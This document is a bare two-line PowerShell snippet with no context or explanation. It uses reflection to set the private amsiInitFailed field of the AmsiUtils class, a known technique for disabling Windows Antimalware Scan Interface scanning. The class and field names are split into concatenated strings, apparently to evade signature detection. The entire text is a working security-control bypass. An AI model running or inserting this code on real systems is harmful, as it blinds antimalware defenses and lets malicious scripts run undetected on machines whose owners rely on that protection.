$t = [Ref].Assembly.GetType('System.Management.Automation.A' + 'msiUtils')
$t.GetField('amsi' + 'InitFailed', 'NonPublic,Static').SetValue($null, $true)
